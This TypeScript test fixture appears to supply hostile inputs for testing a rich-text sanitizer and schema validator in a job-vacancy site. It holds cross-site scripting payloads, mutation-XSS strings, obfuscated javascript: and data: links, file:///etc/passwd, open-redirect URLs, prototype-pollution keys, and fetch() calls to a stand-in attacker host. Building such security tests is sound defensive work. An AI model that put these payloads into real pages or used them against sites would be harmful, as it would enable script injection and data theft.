/** Blocks that somebody with bad intent would send, by what they try. */
const paragraph = (...children: unknown[]) => ({ type: 'paragraph', children });
const text = (value: string) => paragraph({ type: 'text', value });
const link = (url: unknown) => paragraph({ type: 'link', url, children: [{ type: 'text', value: 'x' }] });

/** Every call leaves a mark that a browser test can find, and asks for something that a network log shows. */
const RUN = "window.ran=1;fetch('https://attacker.invalid/')";

export const HOSTILE_TEXTS: Record<string, string> = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': '<script src=https://attacker.invalid/x.js></script>',
  'a script without an end': '<script',
  'a handler': `<img src=x onerror="${RUN}">`,
  'a handler without spaces': `<svg/onload="${RUN}">`,
  svg: `<svg><script>${RUN}</script></svg>`,
  'an animated link in svg': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'a frame': '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'an object': '<object data="https://attacker.invalid/"></object>',
  'a form': '<form action="https://attacker.invalid/"><input name=attributes></form>',
  'a style': '<style>@import "https://attacker.invalid/x.css";</style>',
  'a base': '<base href="https://attacker.invalid/">',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">',
  'mutation in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'mutation by a template': `<template><s><template><s><img src=x onerror=${RUN}></s></template></s></template>`,
  'the end of a comment': `--><img src=x onerror="${RUN}">`,
  'the end of an attribute': `"><img src=x onerror="${RUN}">`,
  'a clobbered document': '<form name=cookie></form><img name=getElementById>',
};

export const HOSTILE_LINKS: Record<string, string> = {
  javascript: 'javascript:alert(1)',
  'in capitals': 'JaVaScRiPt:alert(1)',
  'with a tab': 'java\tscript:alert(1)',
  'with a line end': 'java\nscript:alert(1)',
  'behind a space': ' javascript:alert(1)',
  'behind a control character': '\u0001javascript:alert(1)',
  'behind a no-break space': '\u00a0javascript:alert(1)',
  'by a character reference': '&#106;avascript:alert(1)',
  'with a named colon': 'javascript&colon;alert(1)',
  'percent-encoded': '%6aavascript:alert(1)',
  'in full width': 'ｊavascript:alert(1)',
  data: 'data:text/html,<script>alert(1)</script>',
  'data in base 64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  vbscript: 'vbscript:msgbox(1)',
  blob: 'blob:https://example.org/1',
  file: 'file:///etc/passwd',
  'view-source': 'view-source:javascript:alert(1)',
  'without a scheme': '//attacker.invalid/',
  'with backslashes': '/\\attacker.invalid/',
  'http with one slash': 'https:/attacker.invalid/',
  'with a name before the host': 'https://heartland.example@attacker.invalid/',
  'a relative path': 'articles/x',
  'no host': 'https://',
  'the end of an attribute': 'https://a.invalid/"onmouseover="alert(1)',
  'too long': `https://example.org/${'a'.repeat(2_100)}`,
};

/** Whole blocks, each with the path of its fault after the index. */
export const HOSTILE_BLOCKS: Record<string, { block: unknown; path: string[] }> = {
  'raw HTML': { block: { type: 'html', value: '<b>x</b>' }, path: ['value'] },
  'an unknown type': { block: { type: 'script', children: [] }, path: ['type'] },
  'a type of another kind': { block: { type: ['paragraph'], children: [] }, path: ['type'] },
  'an unknown inline type': { block: paragraph({ type: 'image', url: '/x' }), path: ['children', '0', 'type'] },
  'an unknown field': {
    block: { ...text('x'), data: { hName: 'script' } },
    path: ['data'],
  },
  'properties for the HTML': {
    block: paragraph({ type: 'text', value: 'x', data: { hProperties: { onclick: 'x' } } }),
    path: ['children', '0', 'data'],
  },
  'an id that is a script': {
    block: { type: 'image', imageId: 'img_" onerror="alert(1)', alt: 'x' },
    path: ['imageId'],
  },
  'a picture without words': { block: { type: 'image', imageId: 'img_1', alt: ' ' }, path: ['alt'] },
  'a heading of level 7': {
    block: { type: 'heading', depth: 7, children: [{ type: 'text', value: 'x' }] },
    path: ['depth'],
  },
  'a link in a link': {
    block: paragraph({ type: 'link', url: '/', children: [{ type: 'link', url: '/', children: [] }] }),
    path: ['children', '0', 'children', '0', 'type'],
  },
  'a link that is an object': { block: link({ toString: 'x' }), path: ['children', '0', 'url'] },
  'a card to a script': { block: { type: 'linkCard', url: 'javascript:alert(1)', title: 'x' }, path: ['url'] },
  NUL: { block: text('a\0b'), path: ['children', '0', 'value'] },
  'an escape': { block: text('a\u001b[2Jb'), path: ['children', '0', 'value'] },
  'half a character': { block: text('a\ud83db'), path: ['children', '0', 'value'] },
  'reversed text': { block: text('a\u202eb'), path: ['children', '0', 'value'] },
  'a key of the prototype': {
    block: JSON.parse('{"type":"paragraph","__proto__":{"x":1},"children":[]}'),
    path: ['__proto__'],
  },
  'a constructor': { block: { ...text('x'), constructor: { prototype: {} } }, path: ['constructor'] },
  'an unknown filter': { block: { type: 'vacancyList', filter: { sql: 'x' } }, path: ['filter', 'sql'] },
  'a filter of the wrong type': {
    block: { type: 'vacancyList', filter: { near: { place: 'Bozeman, MT', radiusKm: '50' } } },
    path: ['filter', 'near', 'radiusKm'],
  },
  'an unknown kind of position': {
    block: { type: 'vacancyList', filter: { positionTypes: ['SHERIFF_OF_NOTTINGHAM'] } },
    path: ['filter', 'positionTypes', '0'],
  },
  'a point without a longitude': {
    block: { type: 'vacancyList', filter: { near: { point: { latitude: 1 } } } },
    path: ['filter', 'near', 'point', 'longitude'],
  },
  'a list of a million vacancies': { block: { type: 'vacancyList', filter: {}, first: 1e6 }, path: ['first'] },
};

/** All of them as bodies, for those who render what ought never to have been stored. */
export function hostileBodies(): { name: string; blocks: unknown[] }[] {
  return [
    ...Object.entries(HOSTILE_TEXTS).map(([name, value]) => ({
      name,
      blocks: [
        text(value),
        { type: 'html', value },
        { type: 'heading', depth: 2, children: [{ type: 'text', value }] },
        { type: 'image', imageId: 'img_1', alt: value, caption: value },
        { type: 'linkCard', url: 'https://example.org/', title: value },
      ],
    })),
    ...Object.entries(HOSTILE_LINKS).map(([name, url]) => ({
      name: `link ${name}`,
      blocks: [link(url), { type: 'linkCard', url, title: 'x' }],
    })),
    ...Object.entries(HOSTILE_BLOCKS).map(([name, { block }]) => ({ name, blocks: [block] })),
  ];
}
